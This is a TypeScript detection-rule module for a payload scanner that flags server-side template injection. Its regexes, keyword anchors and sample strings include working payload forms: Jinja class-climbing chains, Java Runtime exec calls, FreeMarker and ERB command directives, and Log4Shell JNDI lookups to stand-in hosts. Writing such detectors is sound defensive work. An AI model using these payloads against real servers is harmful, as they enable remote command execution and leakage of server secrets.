import { rx } from '../rules/pattern-rule.ts'
import type { PayloadRule } from './categories.ts'

const shared = { category: 'template_injection', cwe: 'CWE-1336' } as const

/** Attributes by which a template climbs from any value to the interpreter. */
const CLIMB = String.raw`(?:__(?:class|mro|bases?|subclasses|globals|builtins|import|init|getattribute|dict)__|\\x5f\\x5f(?:class|mro|globals)|\|\s{0,3}attr\s{0,3}\(|getclass\s?\(|\.class\.(?:forname|getresource|protectiondomain)|forname\s?\(|getruntime\s?\(|t\(\s?java\.lang|constructor\.constructor|mainmodule|_self\.env|registerundefinedfiltercallback|request\.application|_templatereference__context|config\.(?:items|secret_key|from_\w{3,10})\s{0,3}|config\[['"]secret|settings\.secret_key|lipsum|cycler\.__|joiner\.__|namespace\.__|get_flashed_messages\.__|url_for\.__|os\.popen|os\.system|subprocess|popen\s?\(|\[\s{0,3}['\"]__?\w{1,12}['\"]\s{0,3}(?:\+|~|\]))`

export const templateInjectionRules: readonly PayloadRule[] = [
  {
    ...shared,
    id: 'template-arithmetic-probe',
    severity: 'high',
    title: 'Sum between template marks, to see whether the server computes it',
    anchors: ['{{', '${', '<%=', '#{', '*{', '@(', '{%', '[[${', '~{', '{@'],
    before: 4,
    after: 40,
    find: rx`(?:\{\{|\$\{\{?|<%=|#\{|\*\{|@\(|~\{|\{@)[\s('"]{0,4}-?\d{1,9}['"]?\s{0,3}(?:\*|\+|-|%)\s{0,3}['"]?\d{1,9}['"]?[\s)]{0,4}(?:\}\}?|%>|\))`,
    verify(match, text) {
      if (match[0].startsWith('{{') || match[0].startsWith('<%')) return 1
      // In a language's own template string or markup expression a sum is a sum, not a probe.
      const before = text.slice(Math.max(0, match.index - 100), match.index)
      const line = before.slice(before.lastIndexOf('\n') + 1)
      if (/`[^`]{0,100}$|(?:puts|print\w{0,3}|echo|return|[=(+%]|\bf)\s{0,3}["'][^"']{0,100}$/.test(line)) return 0
      if (/(?:puts|print|echo|console|=>|=)\s/.test(line)) return 0
      return match[0].startsWith('@(') ? 0.5 : 0.8
    },
    flags: ['{{7*7}}', "{{7*'7'}}", '<%= 7*7 %>', 'name=${7*7}', '#{3*9}', '*{5*5}'],
    ignores: ['Hello {{name}}', '`total ${2 * 3}`', '{{ price * count }}', 'puts "#{1 + 2}"'],
  },
  {
    ...shared,
    id: 'template-interpreter-climb',
    severity: 'critical',
    title: 'Template expression that climbs to the interpreter',
    anchors: [
      '__class__',
      '__mro__',
      '__bases__',
      '__base__',
      '__subclasses__',
      '__globals__',
      '__builtins__',
      '__import__',
      '__init__',
      '__getattribute__',
      '__dict__',
      '\\x5f\\x5f',
      '|attr(',
      '| attr(',
      '|attr (',
      'getclass',
      '.class.',
      'forname',
      'getruntime',
      'java.lang',
      'constructor.constructor',
      'mainmodule',
      "'__",
      '"__',
      "'_",
      '_self.env',
      'registerundefined',
      'request.application',
      '_templatereference',
      'self._',
      'config.items',
      'config.secret',
      'config.from_',
      "config['secret",
      'config["secret',
      'settings.secret',
      'lipsum',
      'os.popen',
      'os.system',
      'subprocess',
      'popen',
    ],
    before: 200,
    after: 40,
    find: rx`(?:\{\{|\{%|\$\{|#\{|(?<!\*)\*\{|<%(?=[=\s-])|@\{|\{php|~\{|__\$\{)[^\n{}]{0,160}?${CLIMB}`,
    verify(match, text) {
      // Python f-strings and JavaScript templates print class names; the double brace and the mark of a page do not.
      if (!/^(?:\$\{|#\{)/.test(match[0])) return 1
      if (/forname|getruntime|java\.lang|mainmodule|constructor\.constructor|popen|system/i.test(match[0])) return 1
      const before = text.slice(Math.max(0, match.index - 80), match.index)
      return /[`"][^`"\n]{0,80}$/.test(before) ? 0 : 0.6
    },
    flags: [
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      '{{config.items()}}',
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      "{{constructor.constructor('x')()}}",
      "<%= os.popen('id') %>",
    ],
    ignores: [
      '{{ config(materialized="table") }}',
      '{{ user.class_name }}',
      '`${obj.constructor.name}`',
      'type(self).__class__.__name__',
      '<% class.forEach(x => { %>',
    ],
  },
  {
    ...shared,
    id: 'template-engine-command',
    severity: 'critical',
    title: 'Template directive that runs a command or loads a class',
    anchors: [
      'freemarker',
      '<#assign',
      '#set',
      '$class',
      'registerfilter',
      'filter(',
      'map(',
      'sort(',
      'reduce(',
      '{php}',
      '{system',
      '{if',
      '<%',
      '#{',
      '<!--#exec',
      '%import',
      '{% import',
      '_memberaccess',
      '@java',
      '{%',
      '#with',
      'ognl',
      '[[${',
    ],
    before: 60,
    after: 160,
    find: rx`(?:<#assign[^>\n]{0,60}freemarker\.template\.utility|["']freemarker\.template\.utility\.(?:execute|objectconstructor|jythonruntime)["']\s{0,3}\?\s{0,3}new|#set\s{0,3}\(\s{0,3}\$[\w]{1,20}\s{0,3}=[^\n]{0,80}(?:class|runtime|exec)|\$class\.inspect\(|\|\s{0,3}(?:filter|map|sort|reduce)\s{0,3}\(\s{0,3}['"](?:system|exec|passthru|shell_exec|popen|assert|file_get_contents)['"]|\{php\}[^\n{]{0,80}(?:system|exec|passthru|eval|echo)|\{(?:system|exec|passthru|shell_exec)\s?\(\s?['"]|\{if\s{1,3}(?:system|exec|passthru|phpinfo)\s?\(|<%=?\s{0,4}(?:system|exec|\x60|io\.popen|file\.(?:open|read)\s?\(\s?['"]/(?:etc|proc|root)|dir\.entries|require\s?\(\s?['"]child_process|global\.process|eval\s?\()|#\{\s{0,4}(?:system\s?[(']|\x60[\w/]|%x|exec\s?[(']|io\.popen|global\.process|root\.process|this\.constructor)|<!--#(?:exec\s{1,3}cmd|include\s{1,3}(?:virtual|file)=['"]?\/etc)|\{%\s{0,3}import\s{1,3}(?:os|subprocess|sys)\s{0,3}%\}|%\{\s{0,3}\(?#(?:_memberaccess|context|rt|cmd|a)\b|@java\.lang\.(?:runtime|processbuilder|system)@|\{\{#with\s{1,3}["']\w{1,10}["']\s{1,3}as\s{1,3}\|)`,
    flags: [
      '<#assign x="freemarker.template.utility.Execute"?new()>',
      "{{['id']|filter('system')}}",
      "<%= system('id') %>",
      '#{`id`}',
      '<!--#exec cmd="id"-->',
      '%{(#_memberAccess=1)}',
    ],
    ignores: [
      '<#assign title="Home">',
      '#set($name = "Ann")',
      '{% import "forms.html" as forms %}',
      '<%= user.name %>',
      'puts "#{name}"',
    ],
  },
  {
    ...shared,
    id: 'template-jndi-lookup',
    cwe: 'CWE-917',
    severity: 'critical',
    title: 'Log lookup that loads a class from elsewhere',
    anchors: ['jndi', '${lower:', '${upper:', '${::-', '${env:', '${date:'],
    before: 60,
    after: 160,
    find: rx`\$\{(?:[^}\n]{0,20}\$\{[^}\n]{0,30}\}){0,12}[^}\n]{0,12}(?:jndi\s{0,3}:|(?:\$\{[^}\n]{0,30}\}\w{0,4}){1,4}(?::|(?=ldap|rmi|dns|iiop)))[^\n]{0,24}(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?|\$\{)`,
    verify: (match) =>
      /jndi/i.test(match[0]) ||
      (/\$\{(?:lower|upper|::-|env|date|sys)/i.test(match[0]) &&
        /\/\/|ldap|rmi|dns|:-l|:-:/i.test(match.input.slice(match.index, match.index + match[0].length + 60))),
    flags: [
      '${jndi:ldap://h.example/a}',
      '${${lower:j}ndi:${lower:l}dap://h/a}',
      '${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}',
    ],
    ignores: ['${env:HOME}/bin', 'jndi: the naming interface', '${date:yyyy}-${env:USER}', 'java:comp/env/jdbc'],
  },
  {
    ...shared,
    id: 'template-config-dump',
    severity: 'medium',
    title: "Template expression that prints the server's settings",
    anchors: ['config', 'self', 'request', 'settings', '$smarty', 'debug', '_context', 'dump(', '.env'],
    before: 8,
    after: 48,
    find: rx`(?:\{\{|\$\{|<%=)\s{0,4}(?:config|self|request\.environ|request\.application|settings|_context\s{0,3}\|\s{0,3}keys|dump\s{0,3}\(\s{0,3}(?:app|_context)?\s{0,3}\)|\$smarty\.(?:template_object|env)|app\.request\.server\.all|system\.getenv\(\))\s{0,4}(?:\|[^{}\n]{0,40})?(?:\}\}|\}|%>)`,
    verify: (match) => (match[0].startsWith('${') ? /getenv|environ/.test(match[0]) : true),
    flags: ['{{config}}', '{{ self }}', '{{_context|keys}}', '{{ dump(app) }}'],
    ignores: ['{{ config.name }}', '${self}', '{{ request.user }}', '${config}/etc'],
  },
]
